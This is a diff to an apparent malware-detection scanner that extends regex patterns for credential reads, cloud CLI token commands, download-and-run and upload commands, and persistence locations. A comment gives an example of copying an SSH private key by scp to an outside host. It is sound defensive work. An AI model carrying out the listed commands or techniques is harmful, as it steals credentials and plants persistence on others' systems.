@@ -124,7 +124,8 @@ SINKS: dict[str, Indicator] = {
 #: wrote it in (not a service the user configures).
 OWNED_CHANNEL = _ind(
     r"discord(?:app)?\.com/api/webhooks/\d{17,20}/[\w-]{60,}|"
-    r"(?<![\w:])\d{8,10}:AA[A-Za-z0-9_-]{33}(?![\w-])|"
+    # A bot's token alone, or in its API address (`api.telegram.org/bot<token>/...`).
+    r"(?:(?<![\w:])|(?<=/bot))\d{8,10}:AA[A-Za-z0-9_-]{33}(?![\w-])|"
     r"hooks\.slack\.com/services/T[A-Z0-9]{8,}/B[A-Z0-9]{8,}/(?!X{8})[A-Za-z0-9]{24}",
     "/api/webhooks/",
     ":aa",
@@ -141,6 +142,10 @@ IP_LOGGER = _ind(
 RAW_IP_URL = _ind(r"\b(?:https?|ftp|tcp)://(\d{1,3}(?:\.\d{1,3}){3})(?::\d+)?", "://")
 _LOCAL_IP = re.compile(r"^(?:127\.|0\.|10\.|192\.168\.|169\.254\.|172\.(?:1[6-9]|2\d|3[01])\.)")
 
+#: Between a program's arguments: spaces in a command line, or the end of one literal and
+#: the start of the next in an argument list (``["powershell", "-W", "Hidden"]``), as the
+#: joined literals and the raw text triage reads show it.
+_ARGUMENTS = r"(?:[\s\x00]|['\"],\s*[rRuU]?['\"])+"
 #: Credential stores, with the weight a read of each carries.
 CREDENTIALS: dict[str, tuple[float, Indicator]] = {
     "browser profile": (
@@ -221,14 +226,30 @@ CREDENTIALS: dict[str, tuple[float, Indicator]] = {
     "system secrets": (
         4,
         _ind(
-            r"(?:/etc/shadow\b|/etc/passwd\b|serviceaccount/token|/proc/self/environ|"
+            # (Every process's environment too: `/proc/*/environ`, a CI job's secrets.)
+            r"(?:/etc/shadow\b|/etc/passwd\b|serviceaccount/token|/proc/(?:self|\*|\d+)/environ|"
             r"169\.254\.169\.254/latest/meta-data/iam|"
             # The GitHub Actions runner's worker: its memory holds the job's secrets.
             r"Runner\.Worker\b|"
             # Where CI and container platforms mount a job's secrets and credentials.
             r"/tekton/(?:scripts|downward|creds)|(?<![\w.])/(?:var/)?run/secrets/)",
-            *("/etc/shadow", "/etc/passwd", "serviceaccount/token", "/proc/self/environ"),
+            *("/etc/shadow", "/etc/passwd", "serviceaccount/token", "/environ"),
             *("169.254.169.254", "runner.worker", "/tekton/", "/run/secrets/"),
+        ),
+    ),
+    # A cloud's or a forge's command line asked for the token it signed in with.
+    "token command": (
+        3,
+        _ind(
+            rf"\bgh{_ARGUMENTS}auth{_ARGUMENTS}token\b|"
+            rf"\bgcloud{_ARGUMENTS}auth{_ARGUMENTS}(?:application-default{_ARGUMENTS})?"
+            rf"print-(?:access|identity)-token\b|"
+            rf"\baz{_ARGUMENTS}account{_ARGUMENTS}get-access-token\b|"
+            rf"\baws{_ARGUMENTS}(?:configure{_ARGUMENTS}export-credentials|"
+            rf"sts{_ARGUMENTS}get-session-token|ecr{_ARGUMENTS}get-login-password)\b|"
+            rf"\bkubectl{_ARGUMENTS}get{_ARGUMENTS}secrets?\b",
+            *("auth", "get-access-token", "export-credentials", "get-session-token"),
+            *("get-login-password", "kubectl"),
         ),
     ),
     "ftp client": (
@@ -247,14 +268,17 @@ PROSE_FILES = r"(?:LICEN[CS]E|COPYING|README|NOTICE|AUTHORS|CHANGELOG)(?:\.(?:md
 
 #: Shell commands that fetch and run something.
 DOWNLOAD_RUN = _ind(
-    r"(?:powershell[^\n]{0,80}?(?:-e(?:nc(?:odedcommand)?)?\s+[A-Za-z0-9+/=]{16}|"
-    r"-w(?:indowstyle)?\s+hidden|iex\b|invoke-expression|invoke-webrequest|\biwr\b|"
+    rf"(?:powershell[^\n]{{0,80}}?(?:-e(?:nc(?:odedcommand)?)?{_ARGUMENTS}[A-Za-z0-9+/=]{{16}}|"
+    rf"-w(?:indowstyle)?{_ARGUMENTS}hidden|iex\b|invoke-expression|invoke-webrequest|\biwr\b|"
     r"downloadstring|downloadfile|start-process)|"
     r"(?:curl|wget)\s[^\n|;]{0,300}\|\s*(?:sudo\s+)?(?:(?:ba|z|da)?sh|perl|ruby|php|node|"
     r"python[23]?(?:\.\d+)?)\b|"
     # Fetched by any program (a renamed curl too), then made executable.
     r"(?:(?:curl|wget)\s|(?:https?|ftp)://)[^\n;]{0,300}(?:&&|;)\s*chmod\s\+x|"
     r"certutil(?:\.exe)?\s+-urlcache|bitsadmin(?:\.exe)?\s+/transfer|mshta(?:\.exe)?\s+https?:|"
+    # A program decoded out of a text file by Windows' certificate tool; a script Deno runs
+    # straight from an address.
+    rf"certutil(?:\.exe)?{_ARGUMENTS}-decode(?:hex)?\b|\bdeno{_ARGUMENTS}run\b[^\n]{{0,80}}?https?://|"
     r"msiexec(?:\.exe)?\s[^\n]{0,40}/[iq]\S*\s+['\"]?https?:|regsvr32(?:\.exe)?\s[^\n]{0,40}/i:https?:|"
     r"Invoke-WebRequest[^\n]{0,200}-OutFile|New-Object\s+Net\.WebClient|"
     r"base64\s+(?:-d|--decode)[^\n]{0,40}\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|"
@@ -264,10 +288,10 @@ DOWNLOAD_RUN = _ind(
     r"(?:curl|wget)(?=[^\n;|&]{0,300}?(?:\s-o|\s-O|--output))\s[^\n;|&]{0,300}(?:&&|;)\s*"
     r"(?:sudo\s+)?(?:(?:(?:ba|z|da)?sh|python[23]?|perl|node|nohup)\s|\./))",
     *("powershell", "curl", "wget", "certutil", "bitsadmin", "mshta", "invoke-webrequest"),
-    *("net.webclient", "base64", "chmod", "msiexec", "regsvr32"),
+    *("net.webclient", "base64", "chmod", "msiexec", "regsvr32", "deno"),
 )
 HIDDEN_POWERSHELL = re.compile(
-    r"-e(?:nc(?:odedcommand)?)?\s+[A-Za-z0-9+/=]{16}|-w(?:indowstyle)?\s+hidden|"
+    rf"-e(?:nc(?:odedcommand)?)?{_ARGUMENTS}[A-Za-z0-9+/=]{{16}}|-w(?:indowstyle)?{_ARGUMENTS}hidden|"
     r"downloadstring|downloadfile|net\.webclient",
     _I,
 )
@@ -275,8 +299,12 @@ HIDDEN_POWERSHELL = re.compile(
 UPLOAD_COMMAND = _ind(
     # (?=\s) then the lazy gap: the option may be the first word after `curl`.
     r"\bcurl(?:\.exe)?(?=\s)[^\n]{0,200}?(?:\s(?-i:-F|--form|-T|--upload-file)(?:\s+|=)['\"]?[\w@]|"
-    r"\s(?:--data(?:-binary)?|-d)\s+['\"]?@)",
-    "curl",
+    r"\s(?:--data(?:-binary)?|-d)\s+['\"]?@)|"
+    # Piped into netcat towards a host and port; copied by scp to an account on a host
+    # written in (`scp ~/.ssh/id_rsa u@203.0.113.5:/tmp`).
+    r"\|\s*(?:nc|ncat|netcat)(?:\.exe)?\s+(?:-\w+\s+)*[\w.-]+\s+\d{2,5}\b|"
+    rf"\bscp(?:\.exe)?{_ARGUMENTS}[^\n]{{0,200}}?(?<![\w{{}}])[\w.-]+@[\w.-]+\.[\w.-]+:",
+    *("curl", "| nc", "|nc", "netcat", "ncat", "scp"),
 )
 #: A shell wired to a socket.
 REVERSE_SHELL = _ind(
@@ -333,8 +361,15 @@ EXECUTABLE_URL = re.compile(r"https?://[^\s'\"]+\.(?:exe|scr|msi|bat|vbs|ps1|dll
 _PIECES = r"(?:[\\/\x00]|['\"],\s*[rRuU]?['\"])+"
 PERSISTENCE = _ind(
     rf"(?:Start Menu{_PIECES}Programs{_PIECES}Startup|CurrentVersion{_PIECES}Run(?:Once)?\b|"
-    r"\bschtasks(?:\.exe)?\s+/create|\breg(?:\.exe)?\s+add\s|crontab\s+-|/etc/cron|"
-    r"/etc/rc\.local|Library/LaunchAgents|\.config/autostart|systemd/user|"
+    rf"\bschtasks(?:\.exe)?{_ARGUMENTS}/create|\breg(?:\.exe)?{_ARGUMENTS}add{_ARGUMENTS}|"
+    r"crontab\s+-|/etc/cron|/etc/rc\.local|Library/Launch(?:Agents|Daemons)|"
+    r"\.config/autostart|systemd/(?:user|system)\b|"
+    # Windows runs the sign-in program (Winlogon's Userinit, Shell) or a program's
+    # "debugger" (Image File Execution Options) in place of what the user starts; macOS
+    # opens a login item at every sign-in.
+    rf"CurrentVersion{_PIECES}Winlogon\b|Image File Execution Options|\bmake login item\b|"
+    # The module every Python start imports, written where Python looks for it.
+    r"(?:^|[\\/\x00])(?:site|user)customize\.py\b|"
     r"\.bashrc|\.zshrc|\.bash_profile|discord_desktop_core|"
     # A repository's git hooks, IPython's start-up scripts: run by the next commit or shell.
     rf"\.git{_PIECES}hooks\b|ipython{_PIECES}profile_\w+{_PIECES}startup|"
@@ -348,7 +383,9 @@ PERSISTENCE = _ind(
     *("startup", "currentversion", "schtasks", "reg add", "reg.exe add", "crontab"),
     *("sc create", "sc.exe create", "new-service"),
     *("/etc/cron", "rc.local"),
-    *("launchagents", "autostart", "systemd/user", "bashrc", "zshrc", "bash_profile"),
+    *("launchagents", "launchdaemons", "autostart", "systemd/", "bashrc", "zshrc"),
+    *("bash_profile", "winlogon", "image file execution options", "login item"),
+    *("sitecustomize.py", "usercustomize.py"),
     *("discord_desktop_core", ".git", "ipython", "folderopen", ".claude"),
     *("powershell_profile", "register-wmievent", "__eventfilter"),
 )
